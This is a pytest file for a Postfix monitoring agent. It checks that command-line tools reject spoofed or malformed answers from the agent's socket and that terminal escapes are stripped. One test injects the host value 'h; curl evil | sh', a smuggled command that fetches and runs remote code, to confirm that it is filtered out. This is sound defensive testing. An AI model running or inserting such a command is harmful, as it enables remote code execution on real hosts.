"""Commands ask the agent, and trust no answer: another program may answer in its place."""

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from postward.agent.http_client import HttpError, Local, request
from postward.agent.incidents.model import Incident
from postward.agent.incidents.store import IncidentStore
from postward.agent.status.client import Address, LiveError, ask, ask_status, local_socket, read_live
from postward.config.settings import Settings, load_settings
from tests.status.sample import sample
from tests.support.postfix import free_port

ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b]52;c;cm0=\x07"


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    """Settings of a host whose agent does not run."""
    path = tmp_path / "postward.toml"
    path.write_text(
        '[host]\nmyhostname = "mx.example.test"\n[[relay]]\nname = "demo"\nhost = "r.test"\ntls = "starttls"\n'
        f'[state]\ndirectory = "{tmp_path}"\n[web]\nlisten = "127.0.0.1:{free_port()}"\n'
        f'[postfix]\nconfig_directory = "{tmp_path}"\n'
    )
    return load_settings(path)


@contextlib.contextmanager
def answering(listener: socket.socket, body: bytes) -> Iterator[None]:
    """Answer each request on a socket with this body."""

    def answer() -> None:
        while True:
            try:
                client, _ = listener.accept()
            except OSError:
                return
            with client:
                client.recv(65536)
                head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n"
                try:
                    client.sendall(head.encode() + body)
                except OSError:
                    continue

    listener.listen()
    thread = threading.Thread(target=answer, daemon=True)
    thread.start()
    try:
        yield
    finally:
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()
        thread.join(10)


def local(path: Path) -> socket.socket:
    """Return a socket bound to a path."""
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(path))
    return listener


def test_root_does_not_ask_a_port_that_anybody_can_take(settings: Settings) -> None:
    """With the agent stopped, a listener on its port is not heard."""
    host, _, port = settings.web.listen.rpartition(":")
    listener = socket.create_server((host, int(port)))
    with answering(listener, b'{"open": []}'):
        assert ask(Address.of_settings(settings), "/api/incidents")[0] is None


def test_a_socket_of_another_user_is_not_heard(tmp_path: Path) -> None:
    """The kernel says whose process listens."""
    with answering(local(tmp_path / "agent.sock"), b"{}"), pytest.raises(HttpError, match="another user"):
        request("http://localhost/", deadline=5, local=Local(tmp_path / "agent.sock", frozenset({12345})))


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 200_000,
        b'{"a":' * 900 + b"1" + b"}" * 900,
        b'{"now": 1e400}',
        b"[]",
        b"null",
        b"{}",
        b'{"open": 1, "closed": {"a": 1}, "relays": [1], "opened_total": "x"}',
        json.dumps({"open": [[]], "closed": [None, 1, "x", {}]}).encode(),
        b"\xff",
        b"",
    ],
)
def test_answers_of_another_form_end_no_command(settings: Settings, tmp_path: Path, body: bytes) -> None:
    """They count as missing, or have no incidents."""
    with answering(local(local_socket(settings)), body):
        assert ask_status(settings, tmp_path / "postward.toml")[0] is None
        with contextlib.suppress(LiveError):
            assert read_live(settings, tmp_path / "postward.toml").open == []


def test_what_is_shown_of_an_answer_is_printable_and_has_our_own_remedies(
    settings: Settings, tmp_path: Path
) -> None:
    """Escape sequences, remedies and servers of strangers do not reach the terminal."""
    incident = Incident("queue-full", "postfix", f"here{ESCAPES}", "none", "smtpd", None, "delayed", 1.0, 2.0)  # type: ignore[arg-type]
    incident.evidence = [f"postfix/smtpd[1]: fatal: {ESCAPES}"]
    row = incident.to_dict() | {"server": {"host": "h; curl evil | sh", "address": "", "port": ""}}
    body = json.dumps({"open": [row], "closed": [], "relays": {}}).encode()
    with answering(local(local_socket(settings)), body):
        rows = read_live(settings, tmp_path / "postward.toml").shown(lambda _: True, addresses=False)

    assert [row["symptom"] for row in rows] == ["queue-full"]
    text = json.dumps(rows, ensure_ascii=False)
    assert text.isprintable()
    assert "curl" not in text


def test_a_status_has_its_form(settings: Settings, tmp_path: Path) -> None:
    """One value of another form, and the answer is not used."""
    for key, value in (("effect", "x"), ("now", -1), ("relays", [{}]), ("queue", []), ("host", None)):
        with answering(local(local_socket(settings)), json.dumps({**sample(), key: value}).encode()):
            assert ask_status(settings, tmp_path / "postward.toml")[0] is None
        local_socket(settings).unlink()


@pytest.mark.parametrize(
    "change",
    [
        {"first": 1e17},
        {"closed": "x"},
        {"evidence": "x"},
        {"mails": [1]},
        {"effect": "x"},
        {"daemons": {}},
        {"attempts": 1.5},
        {"cause": "\x1b"},
        {"other": 1, "symptom": []},
    ],
)
def test_saved_incidents_of_another_form_are_left_out(change: dict[str, object]) -> None:
    """In the checkpoint, which the agent's user writes and root reads."""
    row = Incident("queue-full", "postfix", "here", "none", "smtpd", None, "delayed", 1.0, 2.0).to_dict()  # type: ignore[arg-type]
    store = IncidentStore()
    store.restore({"open": [row | change], "closed": [row]})

    assert (store.all_open, len(store.all_closed)) == ([], 1)
